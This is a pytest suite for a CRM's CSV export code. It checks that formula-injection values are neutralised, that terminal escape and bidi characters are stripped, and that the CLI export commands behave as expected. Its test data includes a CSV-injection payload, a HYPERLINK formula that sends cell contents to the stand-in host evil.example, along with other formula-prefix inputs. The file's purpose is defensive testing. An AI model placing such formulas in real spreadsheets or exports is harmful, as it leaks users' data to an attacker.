"""CSV export: formula injection neutralised, numbers kept as numbers, the CLI end to end."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import psycopg2
import pytest

from db import exports
from tests import hostile
from tests.forecast_data import LOGIN, seed
from tui.cli import main

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
    "\n=1", "  =1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201",
]  # fmt: skip


@pytest.mark.parametrize("value", FORMULAS)
def test_every_dangerous_prefix_gets_an_apostrophe(value):
    cell = exports.neutralise(value)
    assert cell.startswith("'") and cell[1:] == value


@pytest.mark.parametrize("value", ["Volvo", "100", "a=b", "e-mail", "", "Åsa", "山田"])
def test_harmless_text_is_unchanged(value):
    assert exports.neutralise(value) == value


def test_numbers_dates_and_controls():
    assert exports.neutralise(Decimal("-5.50")) == "-5.50"  # a number stays a number
    assert exports.neutralise(-3) == "-3" and exports.neutralise(None) == ""
    assert exports.neutralise("-3") == "'-3"  # text that looks like a number is text
    assert exports.neutralise(date(2026, 12, 2)) == "2026-12-02"
    assert exports.neutralise(True) == "true"
    for value in (hostile.OSC_TITLE, hostile.CLEAR_SCREEN, hostile.C1, hostile.BIDI):
        cell = exports.neutralise(value)
        assert "\x1b" not in cell and "\x9b" not in cell and "\u202e" not in cell
        assert "\ufffd" in cell
    assert exports.neutralise(hostile.MARKUP_ACTION) == hostile.MARKUP_ACTION


def test_write_csv_quotes_and_round_trips():
    out = io.StringIO()
    n = exports.write_csv(out, ["a", "b"], [("x,y", 'say "hi"'), ("=1", Decimal("2.5"))])
    assert n == 2
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["a", "b"], ["x,y", 'say "hi"'], ["'=1", "2.5"]]  # fmt: skip


def test_a_failed_export_leaves_no_file(tmp_path):
    def rows():
        yield ("ok",)
        raise RuntimeError("database gone")

    target = tmp_path / "out.csv"
    with pytest.raises(RuntimeError):
        exports.write_file(target, ["a"], rows())
    assert list(tmp_path.iterdir()) == []


# -- the command line against the test server -------------------------------------------------


@pytest.fixture
def org(installer_dsn):
    o = seed(installer_dsn)
    conn = psycopg2.connect(installer_dsn)
    with conn, conn.cursor() as cur:
        cur.execute("SET search_path = switchboard")
        cur.execute("SELECT id FROM stage WHERE name = 'Proposal'")
        stage = cur.fetchone()[0]
        for name in [*FORMULAS, *hostile.ALL]:
            cur.execute("INSERT INTO opportunity (account_id, name, amount, stage_id, probability, "
                        "expected_close, owner_id) VALUES (%s, %s, 1, %s, 10, '2027-03-01', %s)",
                        (o.accounts["ray"], name, stage, o.users["ray"]))  # fmt: skip
    conn.close()
    return o


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_export_pipeline_as_a_rep(capsys, pg, db_name, org):
    dsn = pg.dsn(db_name, user=LOGIN + "ray")
    code, out, err = run(capsys, "export", "pipeline", "--csv", "--dsn", dsn)
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    # ray's open deals: r1 r2 r3 r5 r6 and the 23 hostile ones; nobody else's (private)
    assert len(rows) == 5 + len(FORMULAS) + len(hostile.ALL)
    assert {r["owner"] for r in rows} == {"Ray Rep"}
    names = {r["deal"] for r in rows}
    for value in FORMULAS:
        assert "'" + value.replace("\r", "\n") in names or "'" + value in names
    assert not any(n.startswith(exports.DANGEROUS) for n in names)
    assert "\x1b" not in out and "\u202e" not in out
    r1 = next(r for r in rows if r["deal"] == "Deal r1")
    assert (r1["amount"], r1["weighted"], r1["stage"]) == ("1000.00", "800.00", "Proposal")


def test_export_forecast_to_a_file(capsys, pg, db_name, org, tmp_path):
    dsn = pg.dsn(db_name, user=LOGIN + "mia")
    target = tmp_path / "f.csv"
    code, out, err = run(capsys, "export", "forecast", "--csv", "--date", "2026-12-15",
                         "--out", str(target), "--dsn", dsn)  # fmt: skip
    assert code == 0, err
    assert out == "" and err.strip() == f"wrote 8 rows to {target}"
    rows = list(csv.DictReader(target.open(encoding="utf-8")))
    north = next(r for r in rows if r["name"] == "North")
    # hand-computed in tests/db/test_forecast.py: North Dec 2026 = 3000, 4000, 11000, 18000, 5800
    assert [north[k] for k in ("closed", "commit", "best_case", "pipeline", "weighted")] == [
        "3000.00", "4000.00", "11000.00", "18000.00", "5800.00"]  # fmt: skip
    assert rows[-1]["level"] == "total" and rows[-1]["period"] == "2026-12"


def test_export_kpis(capsys, pg, db_name, org):
    dsn = pg.dsn(db_name, user=LOGIN + "tom")
    code, out, err = run(capsys, "export", "kpis", "--csv", "--period", "quarter", "--date",
                         "2026-11-01", "--currency", "eur", "--dsn", dsn)  # fmt: skip
    assert code == 0, err
    rows = {(r["kpi"], r["outcome"]): r for r in csv.DictReader(io.StringIO(out))}
    assert Decimal(rows[("win_rate", "")]["value"]) == 75  # 3 won of 4 closed in Q4
    assert rows[("coverage", "")]["currency"] == "EUR"


@pytest.mark.parametrize("argv", [
    ["export", "pipeline"],  # no format
    ["export", "board", "--csv"],
    ["export", "forecast", "--csv", "--date", "yesterday"],
])  # fmt: skip
def test_wrong_usage_is_one_line_exit_2(capsys, argv, admin_dsn):
    code, out, err = run(capsys, *argv, "--dsn", admin_dsn)
    assert code == 2 and len(err.strip().splitlines()) == 1 and out == ""


def test_an_unwritable_file_is_one_line_exit_1(capsys, pg, db_name, org, tmp_path):
    dsn = pg.dsn(db_name, user=LOGIN + "ray")
    code, _out, err = run(capsys, "export", "pipeline", "--csv", "--out",
                          str(tmp_path / "missing" / "x.csv"), "--dsn", dsn)  # fmt: skip
    assert code == 1 and len(err.strip().splitlines()) == 1 and "Traceback" not in err
